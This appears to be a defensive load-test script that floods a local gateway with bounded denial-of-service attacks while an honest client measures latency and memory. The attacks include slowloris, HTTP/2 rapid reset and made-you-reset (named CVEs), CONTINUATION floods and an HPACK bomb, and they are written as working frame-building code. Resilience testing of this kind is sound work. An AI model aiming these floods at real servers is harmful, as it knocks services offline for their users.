"""Attacks the gateway by exhaustion, each attack bounded in count and time, while an honest client goes on asking.

Prints a table of the gateway's peak memory over idle and the honest client's 99th percentile, and ends with 1 if the gateway
ends, hangs, or takes more than the bound. Needs `hyperframe` and `hpack` from PyPI. `floods.py WORD` runs the attacks that
WORD is part of.
"""

import contextlib
import multiprocessing
import pathlib
import resource
import socket
import ssl
import sys
import tempfile
import threading
import time

import hpack
from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame

import harness
from http2_corpus import BASE, PREFACE

BOUND_MIB = 64
# The HTTP library keeps 16 KiB of buffers for as long as an HTTP/1 connection lives; with all else that is the bound of one.
IDLE_BOUND_KIB = 40
IDLE_COUNT = 9500
SECONDS = 6
WAIT_BOUND = 5
FORK = multiprocessing.get_context("fork")
LARGE = 8 << 20
ATTACKS = []


def attack(function):
    ATTACKS.append(function)
    return function


def ask(gateway, stopped, told):
    """Asks for a page over and over, on a new connection every second time, and tells the times and failures when it is stopped."""
    kept, times, failures = None, [], 0
    while not stopped.is_set():
        started = time.monotonic()
        try:
            stream = kept or gateway.connect(timeout=10)
            stream.sendall(b"GET /honest HTTP/1.1\r\nHost: app.test\r\n\r\n")
            answer = b""
            while not answer.endswith(harness.BODY):
                more = stream.recv(65536)
                if not more:
                    raise OSError("closed")
                answer += more
            if kept:
                stream.close()
            kept = None if kept else stream
        except OSError:
            failures, kept = failures + 1, None
        times.append(time.monotonic() - started)
        time.sleep(0.005)
    told.send((times, failures))


class Honest:
    """The client that must not notice; a process of its own, so that it doesn't wait for the attackers' interpreter."""

    def __init__(self, gateway):
        self.stopped = FORK.Event()
        self.told, telling = FORK.Pipe()
        self.process = FORK.Process(target=ask, args=(gateway, self.stopped, telling), daemon=True)
        self.process.start()

    def stop(self):
        """Returns how long each request took, in order of length, and how many failed."""
        self.stopped.set()
        times, failures = self.told.recv() if self.told.poll(20) else ([20.0], 1)
        self.process.kill()
        return sorted(times), failures


def serve_app(told):
    told.send(harness.Upstream(app_answer).url)
    threading.Event().wait()


def start_app():
    """Returns the URL of an app in a process of its own, and the process."""
    url, telling = FORK.Pipe()
    process = FORK.Process(target=serve_app, args=(telling,), daemon=True)
    process.start()
    return url.recv(), process


LARGE_ANSWER = b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % LARGE + b"x" * LARGE


def app_answer(head):
    if b" /large" in head:
        return LARGE_ANSWER
    return harness.plain_answer(head)


def until(deadline, *works):
    """Runs each work again and again, in a thread of its own, until the time is up or it says that it has ended."""
    def loop(work):
        with contextlib.suppress(OSError):
            while time.monotonic() < deadline and work() is not False:
                pass

    threads = [threading.Thread(target=loop, args=(work,), daemon=True) for work in works]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(max(0.0, deadline - time.monotonic()) + 5)


def drained(stream):
    """Reads what the gateway says meanwhile, so that it is never the client's window that stops it."""
    stream.setblocking(False)
    try:
        while stream.recv(65536):
            pass
        return False
    except (BlockingIOError, ssl.SSLWantReadError):
        return True
    except OSError:
        return False
    finally:
        stream.setblocking(True)
        stream.settimeout(5)


def h2(gateway, *settings):
    stream = gateway.connect(alpn="h2")
    stream.sendall(PREFACE + SettingsFrame(0, dict(settings)).serialize())
    return stream


def block(path="/x", *more):
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(n, {"SCHEME": "https", "/x": path}.get(v, v)) for n, v in BASE] + list(more))


def get(stream_id, path="/x", flags=("END_STREAM", "END_HEADERS"), *more):
    return HeadersFrame(stream_id, block(path, *more), flags=list(flags)).serialize()


def repeated(make, connections=4, reads=True):
    """Returns an attack that sends what `make(count)` gives, over and over, on some HTTP/2 connections; closed ones are opened anew."""
    def run(gateway, deadline):
        def worker():
            with contextlib.closing(h2(gateway)) as stream:
                count = 0
                while time.monotonic() < deadline:
                    stream.sendall(make(count))
                    count += 1
                    if reads and not drained(stream):
                        return
        def again():
            with contextlib.suppress(OSError):
                worker()
        until(deadline, *[again] * connections)
    return run


@attack
def slow_heads(gateway, deadline):
    """300 connections that send their head one byte at a time"""
    streams = [gateway.connect() for _ in range(300)]
    for stream in streams:
        stream.sendall(b"GET / HTTP/1.1\r\nHost: app.test\r\nX: ")
    while time.monotonic() < deadline:
        for stream in streams:
            with contextlib.suppress(OSError):
                stream.sendall(b"a")
        time.sleep(0.5)
    for stream in streams:
        stream.close()


@attack
def long_heads(gateway, deadline):
    """300 connections that stop 1 byte before the end of a head of 30 KiB"""
    streams = [gateway.connect() for _ in range(300)]
    for stream in streams:
        with contextlib.suppress(OSError):
            stream.sendall(b"GET / HTTP/1.1\r\nHost: app.test\r\nX: " + b"a" * 30000 + b"\r\n\r")
    time.sleep(max(0, deadline - time.monotonic()))
    for stream in streams:
        stream.close()


@attack
def slow_bodies(gateway, deadline):
    """300 connections that send their body one byte at a time"""
    streams = [gateway.connect() for _ in range(300)]
    for stream in streams:
        stream.sendall(b"POST / HTTP/1.1\r\nHost: app.test\r\nContent-Length: 100000\r\n\r\n")
    while time.monotonic() < deadline:
        for stream in streams:
            with contextlib.suppress(OSError):
                stream.sendall(b"a")
        time.sleep(0.5)
    for stream in streams:
        stream.close()


@attack
def slow_readers(gateway, deadline):
    """100 connections that read an answer of 8 MiB at one byte a second"""
    streams = [gateway.connect(receive_buffer=4096) for _ in range(100)]
    for stream in streams:
        stream.sendall(b"GET /large HTTP/1.1\r\nHost: app.test\r\n\r\n")
    while time.monotonic() < deadline:
        for stream in streams:
            with contextlib.suppress(OSError):
                stream.recv(1)
        time.sleep(1)
    for stream in streams:
        stream.close()


@attack
def pipelined_readers(gateway, deadline):
    """50 connections that pipeline 1,000 requests each and read no answer"""
    streams = [gateway.connect(receive_buffer=4096, timeout=0.2) for _ in range(50)]
    for stream in streams:
        with contextlib.suppress(OSError):
            stream.sendall(b"GET /large HTTP/1.1\r\nHost: app.test\r\n\r\n" * 1000)
    time.sleep(max(0, deadline - time.monotonic()))
    for stream in streams:
        stream.close()


@attack
def window_of_one_byte(gateway, deadline):
    """10 HTTP/2 connections with 100 streams each that take one byte of 8 MiB at a time"""
    streams = [h2(gateway, (SettingsFrame.INITIAL_WINDOW_SIZE, 1)) for _ in range(10)]
    for stream in streams:
        stream.sendall(b"".join(get(2 * n + 1, "/large") for n in range(100)))
    while time.monotonic() < deadline:
        for stream in streams:
            with contextlib.suppress(OSError):
                stream.sendall(b"".join(WindowUpdateFrame(2 * n + 1, window_increment=1).serialize() for n in range(100)))
                drained(stream)
        time.sleep(0.1)
    for stream in streams:
        stream.close()


@attack
def window_of_nothing(gateway, deadline):
    """10 HTTP/2 connections with 100 streams each that want 8 MiB and never open a window"""
    streams = [h2(gateway, (SettingsFrame.INITIAL_WINDOW_SIZE, 0)) for _ in range(10)]
    for stream in streams:
        stream.sendall(b"".join(get(2 * n + 1, "/large") for n in range(100)))
    time.sleep(max(0, deadline - time.monotonic()))
    for stream in streams:
        stream.close()


@attack
def rapid_reset(gateway, deadline):
    """HTTP/2 requests that are reset at once (CVE-2023-44487)"""
    def make(count):
        ids = range(2 * 50 * count + 1, 2 * 50 * (count + 1), 2)
        return b"".join(get(n) + RstStreamFrame(n, error_code=8).serialize() for n in ids)
    repeated(make)(gateway, deadline)


@attack
def late_reset(gateway, deadline):
    """HTTP/2 requests that are reset when the gateway has asked the app"""
    def make(count):
        ids = range(2 * 50 * count + 1, 2 * 50 * (count + 1), 2)
        time.sleep(0.02)
        before = [RstStreamFrame(n - 100, error_code=8).serialize() for n in ids if count > 0]
        return b"".join(before + [get(n) for n in ids])
    repeated(make)(gateway, deadline)


@attack
def made_you_reset(gateway, deadline):
    """HTTP/2 requests whose window updates make the gateway reset them (CVE-2025-8671)"""
    def make(count):
        ids = range(2 * 50 * count + 1, 2 * 50 * (count + 1), 2)
        return b"".join(get(n) + WindowUpdateFrame(n, window_increment=0x7FFFFFFF).serialize() for n in ids)
    repeated(make)(gateway, deadline)


@attack
def continuation_flood(gateway, deadline):
    """a header list of CONTINUATION frames without end"""
    field = hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple("x-filler", "a" * 16000)])
    def make(count):
        begun = HeadersFrame(1, block(), flags=[]).serialize() if count == 0 else b""
        return begun + ContinuationFrame(1, field).serialize() * 8
    repeated(make)(gateway, deadline)


@attack
def empty_continuations(gateway, deadline):
    """CONTINUATION frames with nothing in them, without end"""
    def make(count):
        begun = HeadersFrame(1, block(), flags=[]).serialize() if count == 0 else b""
        return begun + ContinuationFrame(1, b"").serialize() * 1000
    repeated(make)(gateway, deadline)


@attack
def empty_data(gateway, deadline):
    """DATA frames with nothing in them, without end (RUSTSEC-2026-0258)"""
    def make(count):
        begun = get(1, "/x", ("END_HEADERS",)) if count == 0 else b""
        return begun + DataFrame(1, b"").serialize() * 1000
    repeated(make)(gateway, deadline)


@attack
def small_data(gateway, deadline):
    """DATA frames of one byte and 255 of padding"""
    def make(count):
        begun = get(1, "/x", ("END_HEADERS",)) if count == 0 else b""
        return begun + DataFrame(1, b"a", pad_length=255, flags=["PADDED"]).serialize() * 100
    repeated(make)(gateway, deadline)


@attack
def ping_flood(gateway, deadline):
    """PING frames whose answers nobody reads"""
    repeated(lambda count: PingFrame(0, b"12345678").serialize() * 1000, reads=False)(gateway, deadline)


@attack
def settings_flood(gateway, deadline):
    """SETTINGS frames whose acknowledgements nobody reads"""
    repeated(lambda count: SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: count % 60000}).serialize() * 1000, reads=False)(gateway, deadline)


@attack
def reset_flood(gateway, deadline):
    """RST_STREAM and WINDOW_UPDATE frames of streams that are gone"""
    def make(count):
        begun = get(1) if count == 0 else b""
        return begun + (RstStreamFrame(1, error_code=8).serialize() + WindowUpdateFrame(1, window_increment=1).serialize()) * 500
    repeated(make)(gateway, deadline)


@attack
def hpack_bomb(gateway, deadline):
    """one large field in the dynamic table, named thousands of times (CVE-2016-6581)"""
    def make(count):
        if count == 0:
            return HeadersFrame(1, hpack.Encoder().encode(BASE_HTTPS + [("x-bomb", "a" * 3900)]), flags=["END_HEADERS", "END_STREAM"]).serialize()
        indexed = hpack.Encoder().encode(BASE_HTTPS, huffman=False) if count == 1 else block()
        return HeadersFrame(2 * count + 1, indexed + bytes([0x80 | 62]) * 16000, flags=["END_HEADERS", "END_STREAM"]).serialize()
    repeated(make)(gateway, deadline)


BASE_HTTPS = [(name, "https" if value == "SCHEME" else value) for name, value in BASE]


@attack
def h2_bodies_that_stall(gateway, deadline):
    """20 HTTP/2 connections that fill their window for 100 requests each and never end one"""
    def fill(gateway):
        stream = h2(gateway)
        stream.settimeout(1)
        with contextlib.suppress(OSError):
            stream.sendall(b"".join(get(2 * n + 1, "/x", ("END_HEADERS",)) for n in range(100)))
            for n in range(100):
                stream.sendall(DataFrame(2 * n + 1, b"a" * 10000).serialize())
        return stream
    streams = [fill(gateway) for _ in range(20)]
    time.sleep(max(0, deadline - time.monotonic()))
    for stream in streams:
        stream.close()


@attack
def stalled_handshakes(gateway, deadline):
    """2,000 connections that say nothing at all, not even a TLS hello"""
    streams = []
    for _ in range(2000):
        stream = socket.create_connection(("127.0.0.1", gateway.port))
        streams.append(stream)
    time.sleep(max(0, deadline - time.monotonic()))
    for stream in streams:
        stream.close()


@attack
def idle_connections(gateway, deadline):
    """9,500 connections that have asked once and say no more"""
    streams, count = [], IDLE_COUNT
    if resource.getrlimit(resource.RLIMIT_NOFILE)[1] < count + 500:
        print("  too few descriptors for this one: see `ulimit -Hn`")
        count = 500
    for _ in range(count):
        stream = gateway.connect()
        # The other app may be busy for half a minute with what earlier attacks left it.
        stream.sendall(b"GET /honest HTTP/1.1\r\nHost: app.test\r\n\r\n")
        stream.recv(4096)
        streams.append(stream)
    time.sleep(1)
    for stream in streams:
        stream.close()


def run(one, gateway):
    """Returns what is wrong, or None."""
    idle = gateway.memory()
    gateway.forget_peak()
    honest = Honest(gateway)
    started = time.monotonic()
    one(gateway, started + SECONDS)
    took = time.monotonic() - started
    times, failures = honest.stop()
    p99 = times[min(len(times) - 1, len(times) * 99 // 100)]
    peak = (gateway.memory("VmHWM") - idle) / 1024 if gateway.is_alive() else 0
    print(f"| {one.__doc__} | {peak:.1f} | {p99 * 1000:.0f} | {len(times)} | {took:.1f} |", flush=True)
    if not gateway.is_alive():
        return "the gateway ended"
    if failures:
        return f"{failures} honest requests failed"
    bound = IDLE_COUNT * IDLE_BOUND_KIB / 1024 if one is idle_connections else BOUND_MIB
    if peak > bound:
        return f"took {peak:.1f} MiB, more than {bound:.0f}"
    # Attackers, app and honest client share the machine with the gateway: this tells starving from waiting, no more.
    return f"an honest client waited more than {WAIT_BOUND} s" if p99 > WAIT_BOUND else None


def main():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    wanted = [one for one in ATTACKS if len(sys.argv) < 2 or sys.argv[1] in one.__name__]
    # The honest client's app is its own: how an app fares that is asked for what the attack asks for is not the gateway's doing.
    (url, app), (honest_url, honest_app), failed = start_app(), start_app(), 0
    honest_route = f'[[route]]\npath = "/honest"\naccess = "public"\nupstream = "{honest_url}"\n'
    with tempfile.TemporaryDirectory() as folder:
        for tls in (None, harness.certificates(pathlib.Path(folder))):
            print(f"\n| {'over TLS' if tls else 'in the clear'} | MiB over idle | p99 ms | asked | s |\n|---|--:|--:|--:|--:|")
            for one in wanted:
                if tls and one is idle_connections:
                    # In the clear only, where the client can make as many in time.
                    continue
                with harness.Gateway(url, tls=tls, more=honest_route) as gateway:
                    if wrong := run(one, gateway):
                        failed += 1
                        print(f"FAILED {one.__name__}: {wrong}")
    app.kill()
    honest_app.kill()
    print(f"floods: {failed} failed")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
